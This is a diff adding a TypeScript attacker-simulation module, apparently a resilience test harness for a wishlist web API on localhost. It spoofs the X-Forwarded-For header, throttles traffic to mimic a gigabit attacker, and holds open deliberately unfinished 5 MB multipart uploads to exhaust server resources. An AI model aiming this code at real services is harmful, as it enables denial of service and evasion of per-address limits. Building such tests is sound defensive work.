@@ -1,0 +1,84 @@
+import { Agent, request } from 'node:http';
+import { connect } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+
+/** What an attacker has: an address, a free account, and a big list. */
+export interface Target {
+  url: string;
+  address: string;
+  token: string;
+  listId: number;
+  listName: string;
+  wishIds: number[];
+}
+
+/** The attacker's line: a gigabit a second. Over the machine's own loopback it would be the copying that is measured. */
+const BYTES_PER_MS = 125_000;
+const PIECE = 250_000;
+
+const agent = new Agent({ keepAlive: true, maxSockets: 400 });
+
+interface Attempt {
+  path: string;
+  json?: object;
+  body?: Buffer;
+  /** Of the body. */
+  type?: string;
+  token?: string;
+}
+
+let lineIsFree = 0;
+
+/** Waits until so much has gone over the line. */
+function overTheLine(bytes: number): Promise<void> {
+  const now = performance.now();
+  lineIsFree = Math.max(lineIsFree, now) + bytes / BYTES_PER_MS;
+  return pause(lineIsFree - now);
+}
+
+/** One request of the attacker's; gives the status that was answered. */
+export async function send({ url, address }: Target, attempt: Attempt): Promise<string> {
+  const { path, json, token, type = 'application/json' } = attempt;
+  const body = json ? Buffer.from(JSON.stringify(json)) : attempt.body;
+  const headers: Record<string, string> = { 'x-forwarded-for': address, 'accept-encoding': 'br' };
+  if (body) headers['content-type'] = type;
+  if (body) headers['content-length'] = String(body.length);
+  if (token) headers.authorization = `Bearer ${token}`;
+  await overTheLine(body?.length ?? 0);
+  return new Promise((resolve, reject) => {
+    const sent = request(url + path, { agent, method: body ? 'POST' : 'GET', headers }, (answer) => {
+      answer.resume().once('end', () => resolve(String(answer.statusCode)));
+      answer.on('error', reject);
+    });
+    sent.on('error', reject);
+    sent.end(body);
+  });
+}
+
+export const FORM_BEGIN = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n';
+const SENT = 5_000_000;
+
+/** Until it is answered or closed. */
+export async function leaveUnfinished({ url, token, address }: Target): Promise<string> {
+  const { hostname, port } = new URL(url);
+  const socket = connect(Number(port), hostname);
+  const answered = new Promise<string>((resolve) => {
+    socket.once('data', (data) => resolve(String(data).slice(9, 12)));
+    socket.once('close', () => resolve('closed'));
+    socket.on('error', () => undefined);
+  });
+  const head = [
+    'POST /api/v1/s3/upload/item HTTP/1.1',
+    'Host: localhost',
+    `X-Forwarded-For: ${address}`,
+    `Authorization: Bearer ${token}`,
+    'Content-Type: multipart/form-data; boundary=b',
+    `Content-Length: ${SENT + 1000}`,
+  ];
+  socket.write(`${head.join('\r\n')}\r\n\r\n${FORM_BEGIN}`);
+  for (let sent = 0; sent < SENT && socket.bytesRead === 0 && !socket.destroyed; sent += PIECE) {
+    await overTheLine(PIECE);
+    socket.write(Buffer.alloc(PIECE));
+  }
+  return answered.finally(() => socket.destroy());
+}
